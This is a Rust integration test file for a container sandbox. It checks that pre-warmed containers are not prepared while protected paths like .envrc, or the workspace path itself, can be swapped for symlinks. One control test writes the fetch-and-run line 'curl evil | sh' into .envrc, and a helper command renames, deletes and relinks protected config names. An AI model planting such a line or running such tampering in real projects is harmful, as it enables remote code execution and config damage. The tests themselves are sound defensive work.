//! When the next warm container is made: once the run that prepares it is
//! over and its workspace checked, never while its command runs, and not at
//! all when a protected path is no longer what the run protected.

use std::process::{Child, Stdio};
use std::time::{Duration, Instant};

use super::{wait_for_warm, wait_for_warm_at, warm_args};
use crate::common::{
    containers_of, docker, finish, tempdir, test_image, warm_containers_of, Output, Workspace,
};

/// Starts `sandbox run ARGS` in the background.
fn spawn(ws: &Workspace, args: &[&str]) -> Child {
    ws.run_command(args)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn sandbox")
}

/// The warm containers that came up in `ws` while `child` ran, other than
/// those in `before`; `child`'s output.
fn made_while_running(
    ws: &Workspace,
    mut child: Child,
    before: &[String],
) -> (Vec<String>, crate::common::Output) {
    let mut made = Vec::new();
    while child.try_wait().expect("poll sandbox").is_none() {
        for id in ws.warm_containers() {
            if !before.contains(&id) && !made.contains(&id) {
                made.push(id);
            }
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    (made, finish(child))
}

/// A command that keeps at the workspace's protected names for 4 seconds
/// (renames, removals, links over them): a container made meanwhile would
/// be made while it can still change the workspace. None is.
const AT_THE_NAMES: &str = "end=$(( $(date +%s) + 4 )); while [ $(date +%s) -lt $end ]; do \
     mv .envrc x 2>/dev/null; rm -rf .vscode 2>/dev/null; ln -sfn /etc .claude 2>/dev/null; \
     usleep 20000; done; echo done";

#[test]
fn no_warm_container_is_made_while_a_command_runs() {
    let ws = Workspace::new();
    let run = spawn(&ws, &warm_args(&["sh", "-c", AT_THE_NAMES]));
    let (made, out) = made_while_running(&ws, run, &[]);
    assert_eq!((out.status, out.stdout.as_str()), (0, "done\n"), "{out:?}");
    assert!(made.is_empty(), "made while the command ran: {made:?}");
    let waiting = wait_for_warm(&ws);

    // CONTROL: the test sees a container made during a run. A second run
    // that ends while the first still goes prepares the next one then (its
    // own command is over; the first's cannot move what it mounts).
    let long = spawn(&ws, &["--no-warm", "sh", "-c", AT_THE_NAMES]);
    std::thread::sleep(Duration::from_secs(1));
    let short = ws.run(&warm_args(&["true"]));
    assert_eq!(short.status, 0, "{short:?}");
    let (made, out) = made_while_running(&ws, long, &[waiting]);
    assert_eq!(out.status, 0, "{out:?}");
    assert_eq!(made.len(), 1, "control: seen while the first ran: {made:?}");
}

/// A protected path changed during the run by something other than its
/// command (which cannot: each is a mount point in its container), here the
/// host, as a container of an enclosing workspace could: `.envrc`'s
/// stand-in becomes a link. A container made from the run's plan would
/// mount the placeholder where the link points and leave `.envrc` itself
/// to its command. No warm container is made, and the next run refuses the
/// link.
#[test]
fn no_warm_container_is_made_when_a_protected_path_changed() {
    let ws = Workspace::new();
    let run = spawn(&ws, &warm_args(&["sh", "-c", "sleep 3; echo done"]));
    let envrc = ws.path().join(".envrc");
    let deadline = Instant::now() + Duration::from_secs(20);
    while std::fs::symlink_metadata(&envrc).is_err() {
        assert!(Instant::now() < deadline, "no stand-in at .envrc");
        std::thread::sleep(Duration::from_millis(20));
    }
    // A mount point in the run's container, not in this namespace.
    std::fs::remove_file(&envrc).expect("remove the stand-in from outside");
    std::os::unix::fs::symlink("decoy", &envrc).unwrap();
    let (made, out) = made_while_running(&ws, run, &[]);
    assert_eq!((out.status, out.stdout.as_str()), (0, "done\n"), "{out:?}");
    assert!(made.is_empty(), "{made:?}");
    std::thread::sleep(Duration::from_secs(3));
    assert!(
        ws.warm_containers().is_empty(),
        "prepared from a changed workspace"
    );
    let next = ws.run(&warm_args(&["true"]));
    assert_eq!(next.status, 125, "{next:?}");
    assert!(next.stderr.contains("symbolic link"), "{next:?}");

    // CONTROL: what a container made by path from the run's plan gets. The
    // engine mounts the placeholder where the link leads, and its command
    // then replaces `.envrc` with a file of its own, which direnv runs.
    let placeholder = crate::common::tempdir();
    let empty = placeholder.path().join("empty");
    std::fs::write(&empty, "").unwrap();
    let work = format!("{}:/work", ws.path().display());
    let over = format!(
        "type=bind,src={},dst=/work/.envrc,readonly",
        empty.display()
    );
    let out = docker(&[
        "run",
        "--rm",
        "-v",
        &work,
        "--mount",
        &over,
        "-w",
        "/work",
        test_image(),
        "sh",
        "-c",
        "rm .envrc && echo 'curl evil | sh' > .envrc",
    ]);
    assert_eq!(out.status, 0, "{out:?}");
    assert_eq!(
        std::fs::read_to_string(&envrc).unwrap(),
        "curl evil | sh\n",
        "control: .envrc was the command's to replace"
    );
}

/// An XDG_RUNTIME_DIR of a test's own, so the preparer's log is its own;
/// sandbox takes only a directory nobody else can enter.
fn private_runtime() -> tempfile::TempDir {
    let runtime = tempdir();
    let closed = std::os::unix::fs::PermissionsExt::from_mode(0o700);
    std::fs::set_permissions(runtime.path(), closed).unwrap();
    runtime
}

/// Waits until the preparer has made a warm container for `workspace`, or
/// said `said` in its log in `runtime`; the warm containers made.
fn made_or_said(workspace: &std::path::Path, runtime: &std::path::Path, said: &str) -> Vec<String> {
    let log = runtime.join("sandbox/warm-prepare.log");
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let made = warm_containers_of(workspace);
        if !made.is_empty() || std::fs::read_to_string(&log).is_ok_and(|l| l.contains(said)) {
            return made;
        }
        assert!(
            Instant::now() < deadline,
            "the preparer neither made one nor said why"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// A container of a workspace that holds this one (a monorepo around a
/// project) can write the project's path: it could swap the path, or a
/// protected name in it, for a link while a preparer, with nobody watching,
/// has the engine mount what the path names. While one runs, no warm
/// container is made for the project, and the preparer's log says why.
#[test]
fn no_warm_container_is_made_while_an_enclosing_workspace_runs() {
    let outer = Workspace::new();
    let project = outer.path().join("project");
    std::fs::create_dir(&project).unwrap();
    let runtime = private_runtime();
    let in_project = || -> Output {
        let mut cmd = outer.run_command(&warm_args(&["true"]));
        cmd.current_dir(&project)
            .env("XDG_RUNTIME_DIR", runtime.path());
        cmd.output().expect("run sandbox").into()
    };
    let long = spawn(&outer, &["--no-warm", "sh", "-c", "sleep 8; echo done"]);
    let deadline = Instant::now() + Duration::from_secs(20);
    while !outer.containers().iter().any(|id| {
        docker(&["inspect", "-f", "{{.State.Running}}", id])
            .stdout
            .trim()
            == "true"
    }) {
        assert!(Instant::now() < deadline, "the enclosing run never started");
        std::thread::sleep(Duration::from_millis(50));
    }
    let out = in_project();
    assert_eq!(out.status, 0, "{out:?}");
    let said = format!("no warm container for {}", project.display());
    let made = made_or_said(&project, runtime.path(), &said);
    assert!(made.is_empty(), "made for the project: {made:?}");
    let out = finish(long);
    assert_eq!((out.status, out.stdout.as_str()), (0, "done\n"), "{out:?}");

    // CONTROL: the test sees a warm container of the project. Once the
    // enclosing run is over, the same run prepares one.
    let out = in_project();
    assert_eq!(out.status, 0, "{out:?}");
    wait_for_warm_at(&project);
    assert_eq!(containers_of(&project), Vec::<String>::new(), "left behind");
}

/// The workspace's own path swapped for a link to the same files while its
/// run goes on (here by the test; a container of an enclosing workspace,
/// or a process anywhere it handed a descriptor of that directory, could):
/// everything the run checks still looks right through the link, but the
/// engine mounts what a path names when it mounts, and the link could name
/// anything by then. No warm container is made, and the preparer's log says
/// why. The control: the engine does mount what a link names.
#[test]
fn no_warm_container_is_made_when_the_workspace_became_a_link() {
    let outer = Workspace::new();
    let project = outer.path().join("project");
    let moved = outer.path().join("project.real");
    std::fs::create_dir(&project).unwrap();
    let runtime = private_runtime();
    let in_project = |args: &[&str]| {
        let mut cmd = outer.run_command(&warm_args(args));
        cmd.current_dir(&project)
            .env("XDG_RUNTIME_DIR", runtime.path())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        cmd.spawn().expect("spawn sandbox")
    };
    let run = in_project(&["sh", "-c", "sleep 2; echo done"]);
    std::thread::sleep(Duration::from_millis(500));
    std::fs::rename(&project, &moved).unwrap();
    std::os::unix::fs::symlink("project.real", &project).unwrap();
    let out = finish(run);
    assert_eq!((out.status, out.stdout.as_str()), (0, "done\n"), "{out:?}");

    let said = format!("{} has a link in its path", project.display());
    let made = made_or_said(&project, runtime.path(), &said);
    assert!(made.is_empty(), "made through the link: {made:?}");

    // CONTROL: a link given to the engine mounts the directory it names.
    let elsewhere = tempdir();
    std::fs::write(elsewhere.path().join("marker"), "elsewhere\n").unwrap();
    std::os::unix::fs::symlink(elsewhere.path(), outer.path().join("link")).unwrap();
    let work = format!("{}:/work", outer.path().join("link").display());
    let out = docker(&[
        "run",
        "--rm",
        "-v",
        &work,
        test_image(),
        "cat",
        "/work/marker",
    ]);
    assert_eq!(
        (out.status, out.stdout.as_str()),
        (0, "elsewhere\n"),
        "{out:?}"
    );
    assert_eq!(containers_of(&project), Vec::<String>::new(), "left behind");
}
